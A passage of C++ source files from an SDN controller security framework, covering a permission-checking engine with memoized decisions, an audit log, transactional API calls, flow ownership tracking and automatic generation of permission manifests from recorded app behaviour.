  {
    std::lock_guard lock(fenceMutex_);
    fence = publishFence_;
  }
  if (fence) fence();
}

void PermissionEngine::setPublishFence(std::function<void()> fence) {
  std::lock_guard lock(fenceMutex_);
  publishFence_ = std::move(fence);
}

void PermissionEngine::uninstall(of::AppId app) {
  std::lock_guard lock(writeMutex_);
  auto next = std::make_shared<AppMap>(*snapshot());
  next->erase(app);
  {
    std::lock_guard snapLock(snapshotMutex_);
    apps_ = std::move(next);
  }
  version_.fetch_add(1, std::memory_order_release);
}

Decision PermissionEngine::check(const perm::ApiCall& call) const {
  if (call.app == of::kKernelAppId) return Decision::allow();

  // Resolve the app's compiled set, preferring this thread's cached
  // resolution. The version is loaded BEFORE any snapshot so a resolution
  // cached against version v can never be older than the table at v; a
  // writer bumps the version after swapping the table, which invalidates
  // the cache here on the next check.
  ThreadMemo& memo = threadMemo();
  std::uint64_t version = version_.load(std::memory_order_acquire);
  const CompiledPermissions* compiledPtr = nullptr;
  if (memo.engineId == engineId_ && memo.engineVersion == version &&
      memo.appId == call.app && memo.compiled) {
    compiledPtr = memo.compiled.get();
  } else {
    std::shared_ptr<const AppMap> apps = snapshot();
    auto it = apps->find(call.app);
    if (it == apps->end()) {
      return Decision::deny("app " + std::to_string(call.app) +
                            " has no installed permissions");
    }
    memo.engineId = engineId_;
    memo.engineVersion = version;
    memo.appId = call.app;
    memo.compiled = it->second;
    compiledPtr = memo.compiled.get();
  }
  const CompiledPermissions& compiled = *compiledPtr;

  // Memoized fast path: repeated calls with identical attributes (the
  // common case — the same flows recur) skip the filter program entirely.
  // Entries are validated by compiled-set identity plus an exact key
  // compare, so a hash collision or a reinstalled manifest can never
  // resurface a stale decision. Two-way probing (second slot from the high
  // hash bits) keeps colliding hot keys from alternately evicting each
  // other.
  std::size_t bound = memoKeyBound(call);
  if (memo.scratch.size() < bound) memo.scratch.resize(bound);
  char* key = memo.scratch.data();
  std::size_t keyLen = buildMemoKey(call, key);
  std::uint64_t hash = hashKey(key, keyLen);
  MemoEntry& first = memo.slots[hash & (kMemoSlots - 1)];
  MemoEntry& second = memo.slots[(hash >> 12) & (kMemoSlots - 1)];
  for (MemoEntry* entry : {&first, &second}) {
    if (entry->compiledId == compiled.instanceId() && entry->hash == hash &&
        entry->key.size() == keyLen &&
        std::memcmp(entry->key.data(), key, keyLen) == 0) {
      g_memoHit.add(1);
      return entry->decision;
    }
  }
  g_memoMiss.add(1);
  Decision decision = compiled.check(call);
  if (!decision.allowed) g_checkDenied.add(1);
  // Displace an empty or stale slot when possible; otherwise the primary.
  MemoEntry& entry =
      first.compiledId == compiled.instanceId() &&
              second.compiledId != compiled.instanceId()
          ? second
          : first;
  entry.compiledId = compiled.instanceId();
  entry.hash = hash;
  entry.key.assign(key, keyLen);
  entry.decision = decision;
  return decision;
}

std::shared_ptr<const CompiledPermissions> PermissionEngine::compiled(
    of::AppId app) const {
  std::shared_ptr<const AppMap> apps = snapshot();
  auto it = apps->find(app);
  return it == apps->end() ? nullptr : it->second;
}

MemoStats PermissionEngine::memoStats() {
  std::uint64_t hits = g_memoHit.value();
  std::uint64_t misses = g_memoMiss.value();
  std::uint64_t hitBase = g_memoHitBase.load(std::memory_order_relaxed);
  std::uint64_t missBase = g_memoMissBase.load(std::memory_order_relaxed);
  return MemoStats{hits > hitBase ? hits - hitBase : 0,
                   misses > missBase ? misses - missBase : 0};
}

void PermissionEngine::resetMemoStats() {
  g_memoHitBase.store(g_memoHit.value(), std::memory_order_relaxed);
  g_memoMissBase.store(g_memoMiss.value(), std::memory_order_relaxed);
}

void PermissionEngine::resetThreadMemo() {
  ThreadMemo& memo = threadMemo();
  for (MemoEntry& entry : memo.slots) entry = MemoEntry{};
  memo.engineId = 0;
  memo.engineVersion = 0;
  memo.appId = 0;
  memo.compiled.reset();
}

}  // namespace sdnshield::engine
