#include "core/engine/audit.h"

#include <algorithm>
#include <sstream>

namespace sdnshield::engine {

std::string AuditEntry::toString() const {
  std::ostringstream out;
  out << "#" << sequence << " app=" << app << " "
      << perm::toString(callType) << " " << (allowed ? "ALLOW" : "DENY");
  if (!summary.empty()) out << " " << summary;
  return out.str();
}

void AuditLog::record(const perm::ApiCall& call, bool allowed,
                      const std::string& reason) {
  std::lock_guard lock(mutex_);
  AuditEntry entry;
  entry.sequence = nextSequence_++;
  entry.app = call.app;
  entry.callType = call.type;
  entry.allowed = allowed;
  entry.summary = allowed ? call.toString() : reason;
  if (!allowed) ++denied_;
  ring_.push_back(std::move(entry));
  if (ring_.size() > capacity_) ring_.pop_front();
}

std::vector<AuditEntry> AuditLog::entries() const {
  std::lock_guard lock(mutex_);
  return {ring_.begin(), ring_.end()};
}

std::vector<AuditEntry> AuditLog::entriesFor(of::AppId app) const {
  std::lock_guard lock(mutex_);
  std::vector<AuditEntry> out;
  std::copy_if(ring_.begin(), ring_.end(), std::back_inserter(out),
               [&](const AuditEntry& entry) { return entry.app == app; });
  return out;
}

std::uint64_t AuditLog::totalRecorded() const {
  std::lock_guard lock(mutex_);
  return nextSequence_;
}

std::uint64_t AuditLog::deniedCount() const {
  std::lock_guard lock(mutex_);
  return denied_;
}

void AuditLog::clear() {
  std::lock_guard lock(mutex_);
  ring_.clear();
  nextSequence_ = 0;
  denied_ = 0;
}

}  // namespace sdnshield::engine
