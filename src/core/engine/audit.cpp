#include "core/engine/audit.h"

#include <algorithm>
#include <sstream>

#include "obs/metrics.h"

namespace sdnshield::engine {

namespace {
// Eviction is the signal a multi-minute campaign watches for ("is the audit
// window still wide enough to catch the attack"), so it is surfaced
// process-wide, not just per-log.
const obs::Counter g_auditDropped =
    obs::Registry::global().counter("audit.dropped");
}  // namespace

std::string AuditEntry::toString() const {
  std::ostringstream out;
  out << "#" << sequence << " app=" << app << " ";
  switch (kind) {
    case AuditKind::kApiCall:
      out << perm::toString(callType) << " " << (allowed ? "ALLOW" : "DENY");
      break;
    case AuditKind::kFault:
      out << "FAULT";
      break;
    case AuditKind::kSupervision:
      out << "SUPERVISION";
      break;
    case AuditKind::kLifecycle:
      out << "LIFECYCLE";
      break;
  }
  if (!summary.empty()) out << " " << summary;
  if (!spanTrail.empty()) out << " trail=[" << spanTrail << "]";
  return out.str();
}

void AuditLog::push(AuditEntry entry) {
  entry.sequence = nextSequence_++;
  ring_.push_back(std::move(entry));
  evictOverflowLocked();
}

void AuditLog::evictOverflowLocked() {
  while (ring_.size() > capacity_) {
    ring_.pop_front();
    ++dropped_;
    g_auditDropped.increment();
  }
}

void AuditLog::setCapacity(std::size_t capacity) {
  std::lock_guard lock(mutex_);
  capacity_ = capacity;
  evictOverflowLocked();
}

std::size_t AuditLog::capacity() const {
  std::lock_guard lock(mutex_);
  return capacity_;
}

void AuditLog::record(const perm::ApiCall& call, bool allowed,
                      const std::string& reason) {
  std::lock_guard lock(mutex_);
  AuditEntry entry;
  entry.app = call.app;
  entry.callType = call.type;
  entry.allowed = allowed;
  entry.summary = allowed ? call.toString() : reason;
  if (!allowed) ++denied_;
  push(std::move(entry));
}

void AuditLog::recordFault(of::AppId app, const std::string& what) {
  std::lock_guard lock(mutex_);
  AuditEntry entry;
  entry.kind = AuditKind::kFault;
  entry.app = app;
  entry.summary = what;
  ++faults_;
  push(std::move(entry));
}

void AuditLog::recordSupervision(of::AppId app, const std::string& what,
                                 std::string spanTrail) {
  std::lock_guard lock(mutex_);
  AuditEntry entry;
  entry.kind = AuditKind::kSupervision;
  entry.app = app;
  entry.summary = what;
  entry.spanTrail = std::move(spanTrail);
  push(std::move(entry));
}

void AuditLog::recordLifecycle(of::AppId app, const std::string& what) {
  std::lock_guard lock(mutex_);
  AuditEntry entry;
  entry.kind = AuditKind::kLifecycle;
  entry.app = app;
  entry.summary = what;
  push(std::move(entry));
}

std::vector<AuditEntry> AuditLog::entries() const {
  std::lock_guard lock(mutex_);
  return {ring_.begin(), ring_.end()};
}

std::vector<AuditEntry> AuditLog::entriesFor(of::AppId app) const {
  std::lock_guard lock(mutex_);
  std::vector<AuditEntry> out;
  std::copy_if(ring_.begin(), ring_.end(), std::back_inserter(out),
               [&](const AuditEntry& entry) { return entry.app == app; });
  return out;
}

std::uint64_t AuditLog::totalRecorded() const {
  std::lock_guard lock(mutex_);
  return nextSequence_;
}

std::uint64_t AuditLog::deniedCount() const {
  std::lock_guard lock(mutex_);
  return denied_;
}

std::uint64_t AuditLog::faultCount() const {
  std::lock_guard lock(mutex_);
  return faults_;
}

std::uint64_t AuditLog::droppedCount() const {
  std::lock_guard lock(mutex_);
  return dropped_;
}

void AuditLog::clear() {
  std::lock_guard lock(mutex_);
  ring_.clear();
  nextSequence_ = 0;
  denied_ = 0;
  faults_ = 0;
  dropped_ = 0;
}

}  // namespace sdnshield::engine
