// Activity logging (paper §VII, Scenario 2): every mediated call is recorded
// with its decision, enabling forensic analysis after an attack. Besides API
// calls the log carries fault records (contained app crashes/hangs) and
// supervision records (health transitions, quarantines) so degraded-mode
// behaviour is forensically reconstructible too.
#pragma once

#include <cstdint>
#include <deque>
#include <mutex>
#include <string>
#include <vector>

#include "core/perm/api_call.h"

namespace sdnshield::engine {

/// What an audit entry describes.
enum class AuditKind {
  kApiCall,      ///< A mediated API call and its decision.
  kFault,        ///< A contained app fault (exception, dropped task...).
  kSupervision,  ///< A supervisor action (suspect, quarantine, drop batch).
  kLifecycle,    ///< An app-market lifecycle event (install/upgrade/...).
};

struct AuditEntry {
  std::uint64_t sequence = 0;
  AuditKind kind = AuditKind::kApiCall;
  of::AppId app = 0;
  perm::ApiCallType callType = perm::ApiCallType::kReadTopology;
  bool allowed = false;
  std::string summary;
  /// Supervision entries only: the most recent spans observed at the time
  /// of the action ("what was the controller doing when this app was
  /// quarantined"), formatted oldest-first.
  std::string spanTrail;

  std::string toString() const;
};

class AuditLog {
 public:
  explicit AuditLog(std::size_t capacity = 65536) : capacity_(capacity) {}

  /// Ring-buffer retention: when the log holds @p capacity entries the next
  /// record evicts the oldest (counted in droppedCount() and the
  /// "audit.dropped" obs counter). Shrinking below the current size evicts
  /// (and counts) the overflow immediately.
  void setCapacity(std::size_t capacity);
  std::size_t capacity() const;

  void record(const perm::ApiCall& call, bool allowed,
              const std::string& reason = {});
  /// Records a contained app fault (never a permission decision).
  void recordFault(of::AppId app, const std::string& what);
  /// Records a supervisor action taken against @p app. The optional
  /// @p spanTrail carries the recent-span context captured by the caller.
  void recordSupervision(of::AppId app, const std::string& what,
                         std::string spanTrail = {});
  /// Records an app-market lifecycle event (install, upgrade with its
  /// permission diff, revoke, policy epoch swap) against @p app.
  void recordLifecycle(of::AppId app, const std::string& what);

  std::vector<AuditEntry> entries() const;
  std::vector<AuditEntry> entriesFor(of::AppId app) const;
  std::uint64_t totalRecorded() const;
  std::uint64_t deniedCount() const;
  /// Contained-fault entries recorded (not counted as denials).
  std::uint64_t faultCount() const;
  /// Entries evicted by ring-buffer retention since construction/clear().
  /// totalRecorded() still counts every record ever made, so
  /// totalRecorded() - droppedCount() == entries().size().
  std::uint64_t droppedCount() const;
  void clear();

 private:
  void push(AuditEntry entry);
  void evictOverflowLocked();

  mutable std::mutex mutex_;
  std::size_t capacity_;
  std::uint64_t nextSequence_ = 0;
  std::uint64_t denied_ = 0;
  std::uint64_t faults_ = 0;
  std::uint64_t dropped_ = 0;
  std::deque<AuditEntry> ring_;
};

}  // namespace sdnshield::engine
