// Activity logging (paper §VII, Scenario 2): every mediated call is recorded
// with its decision, enabling forensic analysis after an attack.
#pragma once

#include <cstdint>
#include <deque>
#include <mutex>
#include <string>
#include <vector>

#include "core/perm/api_call.h"

namespace sdnshield::engine {

struct AuditEntry {
  std::uint64_t sequence = 0;
  of::AppId app = 0;
  perm::ApiCallType callType = perm::ApiCallType::kReadTopology;
  bool allowed = false;
  std::string summary;

  std::string toString() const;
};

class AuditLog {
 public:
  explicit AuditLog(std::size_t capacity = 65536) : capacity_(capacity) {}

  void record(const perm::ApiCall& call, bool allowed,
              const std::string& reason = {});

  std::vector<AuditEntry> entries() const;
  std::vector<AuditEntry> entriesFor(of::AppId app) const;
  std::uint64_t totalRecorded() const;
  std::uint64_t deniedCount() const;
  void clear();

 private:
  mutable std::mutex mutex_;
  std::size_t capacity_;
  std::uint64_t nextSequence_ = 0;
  std::uint64_t denied_ = 0;
  std::deque<AuditEntry> ring_;
};

}  // namespace sdnshield::engine
