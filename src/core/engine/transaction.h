// Transactional API calls (paper §VI-B.2): a group of semantically related
// API calls issued atomically. The transaction executes only when *every*
// member passes permission checking; a failure mid-execution rolls back the
// already-executed members, and the app is told why the group failed.
#pragma once

#include <cstddef>
#include <functional>
#include <string>
#include <vector>

#include "core/engine/permission_engine.h"
#include "core/perm/api_call.h"

namespace sdnshield::engine {

/// One member of a transaction: the reified call plus its execute/undo
/// thunks supplied by the controller service.
struct TxOperation {
  perm::ApiCall call;
  std::function<bool()> execute;  ///< Returns false on runtime failure.
  std::function<void()> undo;     ///< Reverses a successful execute.
};

struct TxResult {
  bool committed = false;
  /// Index of the failing operation (check or execute) when not committed.
  std::size_t failedIndex = 0;
  std::string failureReason;
};

class Transaction {
 public:
  void add(TxOperation operation) {
    operations_.push_back(std::move(operation));
  }

  std::size_t size() const { return operations_.size(); }
  bool empty() const { return operations_.empty(); }

  /// Phase 1: permission-checks every member; phase 2: executes in order,
  /// undoing executed members if one fails at runtime.
  TxResult commit(const PermissionEngine& engine);

 private:
  std::vector<TxOperation> operations_;
};

}  // namespace sdnshield::engine
