#include "core/engine/transaction.h"

namespace sdnshield::engine {

TxResult Transaction::commit(const PermissionEngine& engine) {
  // Phase 1 — all-or-nothing permission checking: no member executes until
  // every member is known to be allowed, so a denied call can never leave a
  // problematic intermediate state.
  for (std::size_t i = 0; i < operations_.size(); ++i) {
    Decision decision = engine.check(operations_[i].call);
    if (!decision.allowed) {
      return TxResult{false, i, decision.reason};
    }
  }
  // Phase 2 — execute; on runtime failure undo what already ran.
  for (std::size_t i = 0; i < operations_.size(); ++i) {
    bool ok = operations_[i].execute ? operations_[i].execute() : true;
    if (!ok) {
      for (std::size_t j = i; j-- > 0;) {
        if (operations_[j].undo) operations_[j].undo();
      }
      return TxResult{false, i, "operation failed at runtime"};
    }
  }
  return TxResult{true, 0, {}};
}

}  // namespace sdnshield::engine
