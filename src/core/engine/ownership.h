// Flow ownership tracking (paper §IV, ownership filter): records which app
// issued each installed flow, so OWN_FLOWS filters can be evaluated and the
// per-app rule count (table-size filter) maintained.
#pragma once

#include <cstddef>
#include <mutex>
#include <optional>
#include <vector>

#include "of/flow_mod.h"

namespace sdnshield::engine {

class OwnershipTracker {
 public:
  void recordInsert(of::AppId app, of::DatapathId dpid,
                    const of::FlowMatch& match, std::uint16_t priority);

  /// Removes records matching a delete. Non-strict deletes remove every
  /// entry whose match is subsumed by @p match (OF semantics).
  void recordDelete(of::DatapathId dpid, const of::FlowMatch& match,
                    std::optional<std::uint16_t> priority, bool strict);

  /// Owner of the exact (dpid, match, priority) rule.
  std::optional<of::AppId> ownerOf(of::DatapathId dpid,
                                   const of::FlowMatch& match,
                                   std::uint16_t priority) const;

  /// True when every tracked rule on @p dpid that the (non-strict) pattern
  /// would touch is owned by @p app. Vacuously true when none match.
  bool ownsAllMatching(of::AppId app, of::DatapathId dpid,
                       const of::FlowMatch& pattern) const;

  /// True when any tracked rule owned by another app overlaps @p match with
  /// priority <= @p priority — i.e. installing this rule could shadow or
  /// rewrite another app's traffic (used for OWN_FLOWS on inserts).
  bool overridesForeignFlow(of::AppId app, of::DatapathId dpid,
                            const of::FlowMatch& match,
                            std::uint16_t priority) const;

  /// Number of rules @p app currently has installed on @p dpid.
  std::size_t countFor(of::AppId app, of::DatapathId dpid) const;

  std::size_t totalTracked() const;
  void clear();

 private:
  struct Record {
    of::DatapathId dpid = 0;
    of::FlowMatch match;
    std::uint16_t priority = 0;
    of::AppId owner = 0;
  };

  mutable std::mutex mutex_;
  std::vector<Record> records_;
};

}  // namespace sdnshield::engine
