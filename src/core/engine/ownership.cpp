#include "core/engine/ownership.h"

#include <algorithm>

namespace sdnshield::engine {

void OwnershipTracker::recordInsert(of::AppId app, of::DatapathId dpid,
                                    const of::FlowMatch& match,
                                    std::uint16_t priority) {
  std::lock_guard lock(mutex_);
  for (Record& record : records_) {
    if (record.dpid == dpid && record.priority == priority &&
        record.match == match) {
      record.owner = app;  // OF add-replaces semantics transfer ownership.
      return;
    }
  }
  records_.push_back(Record{dpid, match, priority, app});
}

void OwnershipTracker::recordDelete(of::DatapathId dpid,
                                    const of::FlowMatch& match,
                                    std::optional<std::uint16_t> priority,
                                    bool strict) {
  std::lock_guard lock(mutex_);
  std::erase_if(records_, [&](const Record& record) {
    if (record.dpid != dpid) return false;
    if (strict) {
      return priority && record.priority == *priority &&
             record.match == match;
    }
    return match.subsumes(record.match);
  });
}

std::optional<of::AppId> OwnershipTracker::ownerOf(
    of::DatapathId dpid, const of::FlowMatch& match,
    std::uint16_t priority) const {
  std::lock_guard lock(mutex_);
  for (const Record& record : records_) {
    if (record.dpid == dpid && record.priority == priority &&
        record.match == match) {
      return record.owner;
    }
  }
  return std::nullopt;
}

bool OwnershipTracker::ownsAllMatching(of::AppId app, of::DatapathId dpid,
                                       const of::FlowMatch& pattern) const {
  std::lock_guard lock(mutex_);
  return std::all_of(records_.begin(), records_.end(),
                     [&](const Record& record) {
                       if (record.dpid != dpid) return true;
                       if (!pattern.subsumes(record.match)) return true;
                       return record.owner == app;
                     });
}

bool OwnershipTracker::overridesForeignFlow(of::AppId app, of::DatapathId dpid,
                                            const of::FlowMatch& match,
                                            std::uint16_t priority) const {
  std::lock_guard lock(mutex_);
  return std::any_of(records_.begin(), records_.end(),
                     [&](const Record& record) {
                       return record.dpid == dpid && record.owner != app &&
                              record.priority <= priority &&
                              record.match.overlaps(match);
                     });
}

std::size_t OwnershipTracker::countFor(of::AppId app,
                                       of::DatapathId dpid) const {
  std::lock_guard lock(mutex_);
  return static_cast<std::size_t>(
      std::count_if(records_.begin(), records_.end(),
                    [&](const Record& record) {
                      return record.owner == app && record.dpid == dpid;
                    }));
}

std::size_t OwnershipTracker::totalTracked() const {
  std::lock_guard lock(mutex_);
  return records_.size();
}

void OwnershipTracker::clear() {
  std::lock_guard lock(mutex_);
  records_.clear();
}

}  // namespace sdnshield::engine
