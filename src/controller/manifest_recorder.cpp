#include "controller/manifest_recorder.h"

#include <bit>
#include <sstream>

namespace sdnshield::ctrl {

using perm::Token;

class RecordingContext::RecordingApi final : public NorthboundApi {
 public:
  RecordingApi(RecordingContext& owner, NorthboundApi& inner)
      : owner_(owner), inner_(inner) {}

  ApiResult insertFlow(of::DatapathId dpid, const of::FlowMod& mod) override {
    owner_.noteFlowMod(mod);
    return inner_.insertFlow(dpid, mod);
  }

  ApiResult insertFlows(of::DatapathId dpid,
                        const std::vector<of::FlowMod>& mods) override {
    for (const of::FlowMod& mod : mods) owner_.noteFlowMod(mod);
    return inner_.insertFlows(dpid, mods);
  }

  ApiFuture<ApiResult> insertFlowAsync(of::DatapathId dpid,
                                       const of::FlowMod& mod) override {
    owner_.noteFlowMod(mod);
    return inner_.insertFlowAsync(dpid, mod);
  }

  ApiFuture<ApiResult> sendPacketOutAsync(
      const of::PacketOut& packetOut) override {
    owner_.notePacketOut(packetOut);
    return inner_.sendPacketOutAsync(packetOut);
  }

  ApiResult deleteFlow(of::DatapathId dpid, const of::FlowMatch& match,
                       bool strict, std::uint16_t priority) override {
    owner_.note(Token::kDeleteFlow);
    return inner_.deleteFlow(dpid, match, strict, priority);
  }

  ApiResult commitFlowTransaction(
      const std::vector<std::pair<of::DatapathId, of::FlowMod>>& mods)
      override {
    for (const auto& [_, mod] : mods) owner_.noteFlowMod(mod);
    return inner_.commitFlowTransaction(mods);
  }

  ApiResponse<std::vector<of::FlowEntry>> readFlowTable(
      of::DatapathId dpid) override {
    owner_.note(Token::kReadFlowTable);
    return inner_.readFlowTable(dpid);
  }

  ApiResponse<net::Topology> readTopology() override {
    owner_.note(Token::kVisibleTopology);
    return inner_.readTopology();
  }

  ApiResponse<of::StatsReply> readStatistics(
      const of::StatsRequest& request) override {
    owner_.noteStats(request.level);
    return inner_.readStatistics(request);
  }

  ApiResult sendPacketOut(const of::PacketOut& packetOut) override {
    owner_.notePacketOut(packetOut);
    return inner_.sendPacketOut(packetOut);
  }

  ApiResult publishData(const std::string& topic,
                        const std::string& payload) override {
    owner_.note(Token::kModifyTopology);
    return inner_.publishData(topic, payload);
  }

  ApiResponse<StatsReport> statsReport() override {
    // The report is switch-granularity statistics data.
    owner_.noteStats(of::StatsLevel::kSwitch);
    return inner_.statsReport();
  }

  ApiResult updatePolicy(const std::string& policyText) override {
    owner_.note(Token::kMarketAdmin);
    return inner_.updatePolicy(policyText);
  }

  ApiResult revokeApp(of::AppId app, const std::string& reason) override {
    owner_.note(Token::kMarketAdmin);
    return inner_.revokeApp(app, reason);
  }

  ApiResponse<std::string> marketReport() override {
    owner_.note(Token::kMarketAdmin);
    return inner_.marketReport();
  }

 private:
  RecordingContext& owner_;
  NorthboundApi& inner_;
};

class RecordingContext::RecordingHost final : public HostServices {
 public:
  RecordingHost(RecordingContext& owner, HostServices& inner)
      : owner_(owner), inner_(inner) {}

  bool netSend(of::Ipv4Address remoteIp, std::uint16_t remotePort,
               const std::string& data) override {
    owner_.noteNet(remoteIp);
    return inner_.netSend(remoteIp, remotePort, data);
  }
  bool fileWrite(const std::string& path, const std::string& data) override {
    owner_.note(Token::kFileSystem);
    return inner_.fileWrite(path, data);
  }
  bool exec(const std::string& command) override {
    owner_.note(Token::kProcessRuntime);
    return inner_.exec(command);
  }

 private:
  RecordingContext& owner_;
  HostServices& inner_;
};

RecordingContext::RecordingContext(AppContext& inner)
    : inner_(inner),
      api_(std::make_unique<RecordingApi>(*this, inner.api())),
      host_(std::make_unique<RecordingHost>(*this, inner.host())) {}

RecordingContext::~RecordingContext() = default;

of::AppId RecordingContext::appId() const { return inner_.appId(); }
NorthboundApi& RecordingContext::api() { return *api_; }
HostServices& RecordingContext::host() { return *host_; }

ApiResponse<SubscriptionId> RecordingContext::subscribePacketIn(
    std::function<void(const PacketInEvent&)> handler) {
  note(Token::kPktInEvent);
  return inner_.subscribePacketIn(std::move(handler));
}

ApiResponse<SubscriptionId> RecordingContext::subscribePacketInInterceptor(
    std::function<bool(const PacketInEvent&)> handler) {
  note(Token::kPktInEvent);
  return inner_.subscribePacketInInterceptor(std::move(handler));
}

ApiResponse<SubscriptionId> RecordingContext::subscribeFlowEvents(
    std::function<void(const FlowEvent&)> handler) {
  note(Token::kFlowEvent);
  return inner_.subscribeFlowEvents(std::move(handler));
}

ApiResponse<SubscriptionId> RecordingContext::subscribeTopologyEvents(
    std::function<void(const TopologyEvent&)> handler) {
  note(Token::kTopologyEvent);
  return inner_.subscribeTopologyEvents(std::move(handler));
}

ApiResponse<SubscriptionId> RecordingContext::subscribeErrorEvents(
    std::function<void(const ErrorEvent&)> handler) {
  note(Token::kErrorEvent);
  return inner_.subscribeErrorEvents(std::move(handler));
}

ApiResponse<SubscriptionId> RecordingContext::subscribeData(
    const std::string& topic,
    std::function<void(const DataUpdateEvent&)> handler) {
  note(Token::kTopologyEvent);
  return inner_.subscribeData(topic, std::move(handler));
}

ApiResult RecordingContext::unsubscribe(SubscriptionId id) {
  return inner_.unsubscribe(id);
}

perm::PermissionSet RecordingContext::recordedPermissions() const {
  std::lock_guard lock(mutex_);
  using perm::FilterExpr;
  using perm::FilterExprPtr;
  using perm::FilterPtr;
  perm::PermissionSet out;

  for (Token token : observed_.tokens) {
    switch (token) {
      case Token::kInsertFlow: {
        FilterExprPtr filter;
        if (!observed_.sawHeaderRewrite) {
          // Everything observed only forwards or drops: ACTION FORWARD
          // (which admits drops) covers the run.
          filter = FilterExpr::singleton(perm::ActionFilter::forward());
        }
        if (observed_.maxPriority) {
          FilterExprPtr bound = FilterExpr::singleton(FilterPtr{
              new perm::PriorityFilter(true, *observed_.maxPriority)});
          filter = filter ? FilterExpr::conj(filter, bound) : bound;
        }
        out.grant(token, filter);
        break;
      }
      case Token::kSendPktOut: {
        FilterExprPtr filter;
        if (!observed_.sawFabricatedPacketOut) {
          filter = FilterExpr::singleton(FilterPtr{new perm::PktOutFilter(true)});
        }
        out.grant(token, filter);
        break;
      }
      case Token::kReadStatistics: {
        FilterExprPtr filter;
        for (of::StatsLevel level : observed_.statsLevels) {
          FilterExprPtr leaf =
              FilterExpr::singleton(FilterPtr{new perm::StatisticsFilter(level)});
          filter = filter ? FilterExpr::disj(filter, leaf) : leaf;
        }
        out.grant(token, filter);
        break;
      }
      case Token::kHostNetwork: {
        FilterExprPtr filter;
        if (!observed_.remoteIps.empty()) {
          // Smallest common prefix of every contacted endpoint.
          std::uint32_t base = *observed_.remoteIps.begin();
          std::uint32_t diff = 0;
          for (std::uint32_t ip : observed_.remoteIps) diff |= base ^ ip;
          int prefix = diff == 0 ? 32 : std::countl_zero(diff);
          filter = FilterExpr::singleton(FilterPtr{new perm::FieldPredicateFilter(
              of::MatchField::kIpDst,
              of::MaskedIpv4{of::Ipv4Address{base},
                             of::Ipv4Address::prefixMask(prefix)})});
        }
        out.grant(token, filter);
        break;
      }
      default:
        out.grant(token);
        break;
    }
  }
  return out;
}

std::string RecordingContext::manifestText(const std::string& appName) const {
  std::ostringstream out;
  out << "APP " << appName << "\n";
  out << recordedPermissions().toString();
  return out.str();
}

// --- recording hooks (called by the inner decorators) -----------------------------

void RecordingContext::note(perm::Token token) {
  std::lock_guard lock(mutex_);
  observed_.tokens.insert(token);
}

void RecordingContext::noteFlowMod(const of::FlowMod& mod) {
  std::lock_guard lock(mutex_);
  observed_.tokens.insert(Token::kInsertFlow);
  if (of::modifiesHeaders(mod.actions)) observed_.sawHeaderRewrite = true;
  if (of::isDrop(mod.actions)) observed_.sawNonForwardDrop = true;
  if (!observed_.maxPriority || mod.priority > *observed_.maxPriority) {
    observed_.maxPriority = mod.priority;
  }
}

void RecordingContext::noteStats(of::StatsLevel level) {
  std::lock_guard lock(mutex_);
  observed_.tokens.insert(Token::kReadStatistics);
  observed_.statsLevels.insert(level);
}

void RecordingContext::notePacketOut(const of::PacketOut& packetOut) {
  std::lock_guard lock(mutex_);
  observed_.tokens.insert(Token::kSendPktOut);
  if (!packetOut.fromPacketIn) observed_.sawFabricatedPacketOut = true;
}

void RecordingContext::noteNet(of::Ipv4Address remoteIp) {
  std::lock_guard lock(mutex_);
  observed_.tokens.insert(Token::kHostNetwork);
  observed_.remoteIps.insert(remoteIp.value());
}

}  // namespace sdnshield::ctrl
