// Dynamic manifest generation (paper §III: "a permission manifest can be
// automatically generated from app source code with static/dynamic analysis
// tools"). RecordingContext is the dynamic-analysis half: wrap an app's
// context during a profiling run, let the app exercise its functionality,
// then synthesize the *minimum* permission manifest that covers the
// observed behaviour — which the developer can refine and ship.
#pragma once

#include <mutex>
#include <optional>
#include <set>
#include <string>

#include "controller/api.h"
#include "core/perm/permission.h"

namespace sdnshield::ctrl {

class RecordingContext final : public AppContext {
 public:
  /// Wraps @p inner: all calls pass through (the app behaves normally while
  /// being profiled) and are recorded.
  explicit RecordingContext(AppContext& inner);
  ~RecordingContext() override;

  of::AppId appId() const override;
  NorthboundApi& api() override;
  HostServices& host() override;

  ApiResponse<SubscriptionId> subscribePacketIn(
      std::function<void(const PacketInEvent&)> handler) override;
  ApiResponse<SubscriptionId> subscribePacketInInterceptor(
      std::function<bool(const PacketInEvent&)> handler) override;
  ApiResponse<SubscriptionId> subscribeFlowEvents(
      std::function<void(const FlowEvent&)> handler) override;
  ApiResponse<SubscriptionId> subscribeTopologyEvents(
      std::function<void(const TopologyEvent&)> handler) override;
  ApiResponse<SubscriptionId> subscribeErrorEvents(
      std::function<void(const ErrorEvent&)> handler) override;
  ApiResponse<SubscriptionId> subscribeData(
      const std::string& topic,
      std::function<void(const DataUpdateEvent&)> handler) override;
  ApiResult unsubscribe(SubscriptionId id) override;

  /// The minimum permission set covering everything observed so far:
  ///  * only tokens that were actually exercised;
  ///  * insert_flow narrowed to ACTION FORWARD when no rewrite was seen,
  ///    and to the highest priority used (MAX_PRIORITY);
  ///  * send_pkt_out narrowed to FROM_PKT_IN when every packet-out echoed
  ///    a packet-in;
  ///  * network_access narrowed to the smallest common prefix of the
  ///    contacted endpoints;
  ///  * read_statistics narrowed to the granularities requested.
  perm::PermissionSet recordedPermissions() const;

  /// The manifest in permission-language text, ready to ship.
  std::string manifestText(const std::string& appName) const;

 private:
  class RecordingApi;
  class RecordingHost;
  friend class RecordingApi;
  friend class RecordingHost;

  struct Observations {
    std::set<perm::Token> tokens;
    bool sawHeaderRewrite = false;
    bool sawNonForwardDrop = false;  // Explicit drop rules.
    std::optional<std::uint16_t> maxPriority;
    bool sawFabricatedPacketOut = false;
    std::set<of::StatsLevel> statsLevels;
    std::set<std::uint32_t> remoteIps;
  };

  void note(perm::Token token);
  void noteFlowMod(const of::FlowMod& mod);
  void noteStats(of::StatsLevel level);
  void notePacketOut(const of::PacketOut& packetOut);
  void noteNet(of::Ipv4Address remoteIp);

  AppContext& inner_;
  std::unique_ptr<RecordingApi> api_;
  std::unique_ptr<RecordingHost> host_;
  mutable std::mutex mutex_;
  Observations observed_;
};

}  // namespace sdnshield::ctrl
