#include "controller/services.h"

namespace sdnshield::ctrl {

std::optional<std::vector<std::pair<of::DatapathId, of::FlowMod>>>
buildPathFlowMods(const net::Topology& topology, const net::Host& src,
                  const net::Host& dst, const of::FlowMatch& matchTemplate,
                  std::uint16_t priority) {
  auto path = topology.shortestPath(src.dpid, dst.dpid);
  if (!path) return std::nullopt;
  std::vector<std::pair<of::DatapathId, of::FlowMod>> out;
  for (std::size_t i = 0; i < path->size(); ++i) {
